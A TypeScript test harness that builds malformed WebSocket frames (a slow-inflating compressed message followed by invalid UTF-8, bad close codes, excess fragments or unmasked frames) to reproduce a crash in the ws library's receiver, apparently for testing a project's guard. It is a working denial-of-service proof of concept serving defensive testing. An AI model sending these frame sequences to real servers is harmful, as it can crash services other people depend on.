/**
 * The frames of the ws receiver crash (issue 14) and a bare-receiver harness for it.
 * Run as a script (`node receiver-attack.js <kind>`) it feeds one attack to a bare ws Receiver
 * in a fresh process WITHOUT wshub's guard and prints the receiver's events, one a line; the
 * unpatched receiver throws out of the inflate callback there and the process dies.
 */
import { deflateRawSync } from 'node:zlib';
import * as wsModule from 'ws';
import { clientFrame } from './clients.js';

const TEXT = 0x1;
const BINARY = 0x2;
const CONTINUATION = 0x0;
const CLOSE = 0x8;
const RSV1 = 0x40;

/** The rejections of W2: each makes ws fail a frame after it has read (and cleared) the mask. */
export const MASKED_REJECTIONS = [
  'invalid-utf8-text',
  'invalid-close-code',
  'invalid-close-reason',
  'too-many-fragments',
] as const;
/** A rejection before the mask (an unmasked client frame): no crash, but the next frame was emitted. */
export const KINDS = [...MASKED_REJECTIONS, 'unmasked-frame'] as const;
export type AttackKind = (typeof KINDS)[number];

/** The close code ws answers each rejection with (RFC 6455 §7.4.1). */
export const CLOSE_CODE_OF: Readonly<Record<AttackKind, number>> = {
  'invalid-utf8-text': 1007,
  'invalid-close-code': 1002,
  'invalid-close-reason': 1007,
  'too-many-fragments': 1008,
  'unmasked-frame': 1002,
};

/** The error code ws's receiver reports for each rejection. */
export const ERROR_CODE_OF: Readonly<Record<AttackKind, string>> = {
  'invalid-utf8-text': 'WS_ERR_INVALID_UTF8',
  'invalid-close-code': 'WS_ERR_INVALID_CLOSE_CODE',
  'invalid-close-reason': 'WS_ERR_INVALID_UTF8',
  'too-many-fragments': 'WS_ERR_TOO_MANY_BUFFERED_PARTS',
  'unmasked-frame': 'WS_ERR_EXPECTED_MASK',
};

/**
 * W1: a compressed text message (RFC 7692 §7.2.1) that takes several event-loop turns to
 * inflate, `inflatedBytes` of it.
 */
export function slowToInflate(inflatedBytes: number): Buffer {
  const deflated = deflateRawSync(Buffer.alloc(inflatedBytes, 0x61), { finishFlush: 2 /* Z_SYNC_FLUSH */ });
  return clientFrame(TEXT, deflated.subarray(0, -4), { rsv: RSV1 });
}

/** W2 for one rejection kind; `maxFragments` is the receiver's fragment limit. */
export function rejected(kind: AttackKind, maxFragments: number): Buffer {
  switch (kind) {
    case 'invalid-utf8-text':
      return clientFrame(TEXT, Buffer.from([0xff, 0xfe, 0xfd]));
    case 'invalid-close-code':
      return clientFrame(CLOSE, Buffer.from([0x03, 0xe7])); // 999
    case 'invalid-close-reason':
      return clientFrame(CLOSE, Buffer.from([0x03, 0xe8, 0xff, 0xfe])); // 1000 + invalid UTF-8
    case 'too-many-fragments': {
      const frames = [clientFrame(TEXT, Buffer.from('a'), { fin: false })];
      for (let i = 0; i < maxFragments; i++)
        frames.push(clientFrame(CONTINUATION, Buffer.from('a'), { fin: false }));
      return Buffer.concat(frames);
    }
    case 'unmasked-frame':
      return Buffer.from([0x80 | BINARY, 0x00]);
  }
}

/** W3: any masked frame, longer than W2's payload. */
export const anyMasked = (): Buffer => clientFrame(BINARY, Buffer.alloc(64, 0x62));

interface BareReceiver {
  write(chunk: Buffer): boolean;
  on(event: string, listener: (...args: unknown[]) => void): unknown;
}
export interface ReceiverCtor {
  new (options: Record<string, unknown>): BareReceiver;
}
interface DeflateCtor {
  new (
    options: Record<string, unknown>,
    isServer: boolean,
    maxPayload: number,
  ): { accept(offers: unknown[]): unknown };
}

export const BARE_MAX_FRAGMENTS = 4;
const ws = wsModule as unknown as { Receiver: ReceiverCtor; PerMessageDeflate: DeflateCtor };

/**
 * Feeds W1, W2, W3 to a bare server-side Receiver with permessage-deflate in one turn (W2 and W3
 * queue in the Writable while W1 inflates, exactly as socket reads 1 ms apart do) and resolves
 * with the events it emitted, in order, once it has been quiet for a few turns.
 */
export async function feedBareReceiver(
  kind: AttackKind,
  Receiver: ReceiverCtor = ws.Receiver,
): Promise<string[]> {
  const deflate = new ws.PerMessageDeflate({}, true, 0);
  deflate.accept([{}]);
  const receiver = new Receiver({
    isServer: true,
    extensions: { 'permessage-deflate': deflate },
    maxFragments: BARE_MAX_FRAGMENTS,
  });
  const events: string[] = [];
  receiver.on('message', (data) => events.push(`message ${(data as Buffer).length}`));
  receiver.on('conclude', (code) => events.push(`conclude ${code}`));
  receiver.on('error', (error) => {
    const failure = error as Error & { code?: string };
    events.push(`error ${failure.code}`);
  });
  receiver.write(slowToInflate(1024 * 1024));
  receiver.write(rejected(kind, BARE_MAX_FRAGMENTS));
  receiver.write(anyMasked());
  // Bounded: the inflate of 1 MiB takes a few ms; 200 ms of quiet is far past it.
  for (let waited = 0; waited < 200 && !events.some((event) => event.startsWith('error')); waited += 10) {
    await new Promise((resolve) => setTimeout(resolve, 10));
  }
  await new Promise((resolve) => setTimeout(resolve, 20));
  return events;
}

if (process.argv[1] !== undefined && import.meta.url === new URL(`file://${process.argv[1]}`).href) {
  const kind = process.argv[2] as AttackKind;
  for (const event of await feedBareReceiver(kind)) process.stdout.write(`${event}\n`);
}
